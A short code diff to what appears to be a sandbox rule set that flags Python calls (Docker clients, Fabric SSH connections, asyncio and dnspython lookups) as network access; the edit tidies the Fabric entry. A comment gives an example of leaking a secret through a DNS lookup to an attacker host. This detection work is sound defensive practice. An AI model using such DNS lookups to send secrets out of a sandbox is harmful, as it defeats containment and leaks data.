@@ -48539,7 +48539,7 @@ var DEFAULT_SPECS = [
   py("docker", client("from_env", "DockerClient", "APIClient", "client.from_env", "client.DockerClient", "api.APIClient", "api.client.APIClient"), "network"),
   // Fabric: an SSH connection to a host, whose `run` starts a shell there; a group makes one per host. Each also from the
   // submodule defining it (`from fabric.connection import Connection`, as fabric's own modules import it).
-  py("fabric", client(...["Connection", "connection.Connection"], ...["Group", "SerialGroup", "ThreadingGroup"].flatMap((g) => [g, `group.${g}`])), "network"),
+  py("fabric", client("Connection", "connection.Connection", ...["Group", "SerialGroup", "ThreadingGroup"].flatMap((g) => [g, `group.${g}`])), "network"),
   // A name looked up sends a DNS query (a channel out of the sandbox: `loop.getaddrinfo(f"{secret}.attacker.example", 80)`).
   py("asyncio", call(...EVENT_LOOPS.flatMap((l) => LOOP_LOOKUPS.map((m) => `${l}${RETURNED}.${m}`))), "network"),
   // dnspython: queries through the system's resolvers, or sent to a server named (`dns.query.udp(q, "1.2.3.4")`).
